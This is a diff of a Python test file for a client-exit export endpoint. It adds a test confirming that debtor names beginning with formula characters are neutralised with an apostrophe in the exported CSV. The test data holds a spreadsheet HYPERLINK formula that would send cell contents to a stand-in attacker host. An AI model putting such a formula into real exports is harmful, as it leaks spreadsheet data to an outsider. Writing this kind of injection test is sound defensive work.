@@ -43,8 +43,9 @@ def give_notice(client, client_id=1) -> str:
 
 def actions(deps, exit_id) -> list[str]:
     with deps.store.connect() as conn:
-        return [a for (a,) in conn.execute(select(audit_events.c.action).where(
-            audit_events.c.object_id == exit_id).order_by(audit_events.c.seq))]
+        return [a for (a,) in conn.execute(select(audit_events.c.action).where(  # not the access audit
+            audit_events.c.object_id == exit_id, audit_events.c.action.not_like("access.%")).order_by(
+            audit_events.c.seq))]
 
 
 def test_download_holds_every_client_table_as_csv_and_json(client, world):
@@ -127,3 +128,24 @@ def test_bad_query_is_422(client, world):
     exit_id = give_notice(client)
     resp = client.get(f"exits/{exit_id}/export", role=ADMIN, client_id=1, params={"download": "misschien"})
     assert resp.status == 422 and resp.json()["errors"][0]["field"] == "download"
+
+
+def test_a_debtor_named_like_a_formula_is_neutralised_in_the_csv(client, world):
+    """CSV injection: a debtor-controlled name must not run in the client's spreadsheet."""
+    from shared.datamap.discovery import table
+
+    deps, _, _ = world
+    evil = '=HYPERLINK("http://evil.example/?"&A1,"klik")'
+    with deps.platform.begin() as conn:
+        debtors = table("debtors")
+        first = conn.execute(select(debtors.c.id).where(debtors.c.client_id == 1).limit(1)).scalar_one()
+        conn.execute(debtors.update().where(debtors.c.id == first).values(name=evil, phone="+31 6 12345678"))
+    exit_id = give_notice(client)
+    resp = client.get(f"exits/{exit_id}/export", role=ADMIN, client_id=1, params={"download": "1"})
+    zf = zipfile.ZipFile(io.BytesIO(resp.body))
+    rows = {r["id"]: r for r in csv.DictReader(io.StringIO(zf.read("debtors.csv").decode("utf-8")))}
+    assert rows[str(first)]["name"] == "'" + evil and rows[str(first)]["phone"] == "'+31 6 12345678"
+    assert not any(v.startswith(("=", "+", "-", "@")) for r in rows.values() for v in r.values()
+                   if v and not v.lstrip("-").replace(".", "").isdigit())
+    as_json = {r["id"]: r for r in json.loads(zf.read("debtors.json"))}
+    assert as_json[first]["name"] == evil  # JSON is data, not a sheet: kept as it is
